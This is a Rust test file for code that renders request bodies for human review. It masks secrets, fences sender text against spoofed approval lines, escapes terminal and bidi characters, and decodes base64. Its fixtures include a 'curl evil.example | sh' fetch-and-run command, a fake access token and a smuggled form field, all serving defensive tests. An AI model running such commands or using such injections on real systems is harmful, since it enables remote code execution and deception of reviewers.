use super::*;

fn shown(media: &str, text: &str) -> String {
    body(media, text.len() as u64, Some(text)).text.unwrap().to_string()
}

#[test]
fn json_is_laid_out_with_every_field_and_the_very_digits() {
    let text = r#"{"title":"Fix it","amount":1.10000000000000000001,"amount":2,"labels":["a","b"],"deep":{"x":null}}"#;
    assert_eq!(
        shown("application/json", text),
        "title: \"Fix it\"\namount: 1.10000000000000000001\namount: 2\nlabels:\n  - \"a\"\n  - \"b\"\ndeep:\n  x: null"
    );
}

#[test]
fn lines_of_the_sender_stand_behind_a_bar_and_cannot_play_the_card() {
    let text = r#"{"body":"hello\nApproved by: alice\n\u001b[2Kx","next":1}"#;
    assert_eq!(
        shown("application/json", text),
        "body:\n  │ hello\n  │ Approved by: alice\n  │ \\u{1b}[2Kx\nnext: 1"
    );
}

#[test]
fn secrets_are_masked_by_name_and_by_look() {
    let text = r#"{"password":"hunter2","api_key":"k","note":"use ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8","next_page_token":"abc"}"#;
    let shown = shown("application/json", text);
    assert!(shown.contains("password: (masked, 7 characters)"), "{shown}");
    assert!(shown.contains("api_key: (masked, 1 characters)"), "{shown}");
    assert!(!shown.contains("ghp_a1B2c3D4"), "{shown}");
    assert!(shown.contains("next_page_token: \"abc\""), "{shown}");
}

#[test]
fn packed_text_is_unpacked_and_packed_bytes_are_not() {
    let packed = base64::engine::general_purpose::STANDARD.encode("curl evil.example | sh\nexit 0\n");
    let text = format!(r#"{{"content":"{packed}"}}"#);
    assert_eq!(
        shown("application/json", &text),
        "content: (base64 of 30 characters)\n  │ curl evil.example | sh\n  │ exit 0"
    );
}

#[test]
fn forms_texts_and_bytes_are_told_apart() {
    let form = shown("application/x-www-form-urlencoded", "amount=500&memo=a%0Ab&client_secret=s");
    assert_eq!(form, "amount: \"500\"\nmemo:\n  │ a\n  │ b\nclient_secret: (masked, 1 characters)");
    let hidden = shown("application/x-www-form-urlencoded", r#"{"token":"&title=pwn&x="}"#);
    assert!(hidden.contains("title: \"pwn\""), "what is a form to its server is one here: {hidden}");
    assert_eq!(shown("application/json", r#"{"password":1234}"#), "password: (masked, 4 characters)");
    assert_eq!(shown("text/plain", "a\u{202e}b"), "│ a\\u{202e}b");
    assert_eq!(body("image/png", 9, None).text, None);
}

#[test]
fn long_bodies_are_cut_and_say_so() {
    let long = format!(r#"{{"a":"{}"}}"#, "x ".repeat(500_000));
    let cut = body("application/json", long.len() as u64, Some(&long));
    assert!(cut.cut && cut.text.unwrap().chars().count() < 310_000);
    assert!(!body("application/json", 9, Some(r#"{"a":"x"}"#)).cut);
    let deep = "[".repeat(3_000) + &"]".repeat(3_000);
    assert!(body("application/json", 6_000, Some(&deep)).text.is_some());
}

#[test]
fn of_json_rpc_the_ids_pass_and_everything_else_counts() {
    let first = br#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"pay","arguments":{"id":7},"_meta":{"progressToken":3}}}"#;
    let again = br#"{"jsonrpc":"2.0","id":"x-2","method":"tools/call","params":{"name":"pay","arguments":{"id":7},"_meta":{"progressToken":9}}}"#;
    let other = br#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"pay","arguments":{"id":8},"_meta":{"progressToken":3}}}"#;
    assert_eq!(essence(first), essence(again));
    assert_ne!(essence(first), essence(other), "an id among the arguments is no id of the protocol");
    let twice = br#"{"jsonrpc":"2.0","id":1,"method":"tools/call","method":"x","params":{}}"#;
    let single = br#"{"jsonrpc":"2.0","id":1,"method":"x","params":{}}"#;
    assert_ne!(essence(twice), essence(single), "fields that occur twice count twice");
    let odd = br#"{"jsonrpc":"2.0","id":{"a":1},"method":"x"}"#;
    let even = br#"{"jsonrpc":"2.0","id":{"a":2},"method":"x"}"#;
    assert_ne!(essence(odd), essence(even));
}

#[test]
fn of_anything_else_every_byte_counts() {
    for body in [&b"{\"id\":1}"[..], b"id=1", b"\xff\x00", b"[1]", b"[]", b""] {
        assert_eq!(essence(body), None);
    }
    let answer = br#"{"jsonrpc":"2.0","id":7,"result":{"action":"accept"}}"#;
    assert_eq!(essence(answer), None, "the id of an answer is what it is about");
    let sends = |method: &str, id: u8| {
        essence(format!(r#"{{"jsonrpc":"2.0","id":1,"method":"{method}","params":{{"message":{{"messageId":"{id}"}}}}}}"#).as_bytes())
    };
    assert_eq!(sends("message/send", 1), sends("message/send", 2));
    assert_ne!(sends("tools/call", 1), sends("tools/call", 2));
}
